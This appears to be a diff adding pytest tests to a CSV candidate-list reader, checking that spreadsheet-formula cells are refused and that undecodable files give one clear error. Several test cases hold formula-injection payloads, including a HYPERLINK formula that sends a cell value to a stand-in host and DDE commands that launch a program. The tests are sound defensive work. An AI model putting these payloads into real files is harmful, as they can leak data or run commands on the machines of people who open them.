@@ -125,3 +125,55 @@ def test_size_and_row_limits():
 def test_a_field_past_the_csv_limit_is_a_problem_not_a_crash(data, line):
     found = read_candidates(data, max_bytes=1_000_000)
     assert [p.line for p in found.problems] == [line]
+
+
+@pytest.mark.parametrize("cell, column", [
+    ('"=HYPERLINK(""http://evil.example/?x=""&A1,""CV"")"', "name"),
+    ("+1+cmd|' /C calc'!A0", "name"),
+    ("-2+3", "name"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "name"),
+    ('" =1+1"', "name"),
+])
+def test_a_name_that_a_spreadsheet_would_run_is_refused_on_its_line(cell, column):
+    found = _rows("name,email,role,lane,level\n"
+                  "Ana Sousa,ana@example.net,MLE,applied,mid\n"
+                  f"{cell},bo@example.net,MLE,applied,mid\n")
+    assert not found.ok
+    assert [(p.line, p.column) for p in found.problems] == [(3, column)]
+    assert "formula" in found.problems[0].message
+
+
+def test_a_role_that_a_spreadsheet_would_run_is_refused_too():
+    found = _rows("name,email,role,lane,level\nAna,ana@example.net,=1+2,applied,mid\n")
+    assert [(p.line, p.column) for p in found.problems] == [(2, "role")]
+
+
+def test_dashes_and_at_signs_inside_names_are_fine():
+    found = _rows("name,email,role,lane,level\n"
+                  "Anne-Marie O'Neil @ home,ana@example.net,ML Engineer - Search,applied,mid\n")
+    assert found.ok and found.rows[0].name == "Anne-Marie O'Neil @ home"
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
+def test_utf8_with_or_without_bom_and_utf16_with_bom_are_read(encoding):
+    data = GOOD.replace("Bo Lindqvist", "Bø Lindqvist").encode(encoding)
+    if encoding == "utf-16-le":
+        data = b"\xff\xfe" + data
+    elif encoding == "utf-16-be":
+        data = b"\xfe\xff" + data
+    found = read_candidates(data)
+    assert found.ok, found.problems
+    assert [r.name for r in found.rows] == ["Aiyana Okafor", "Bø Lindqvist"]
+
+
+@pytest.mark.parametrize("data", [
+    b"\xff\xfe" + GOOD.encode("utf-16-le") + b"\x00",  # odd length: cut short
+    b"\xff\xfe\x00\xd8a\x00",  # a lone surrogate
+    b"\xff\xfe\x00\x00" + GOOD.encode("utf-32-le"),  # UTF-32
+    bytes(range(256)) * 4,
+    b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,
+])
+def test_a_file_that_cannot_be_decoded_is_one_clear_problem(data):
+    found = read_candidates(data)
+    assert not found.ok and found.rows == ()
+    assert "UTF" in found.problems[0].message
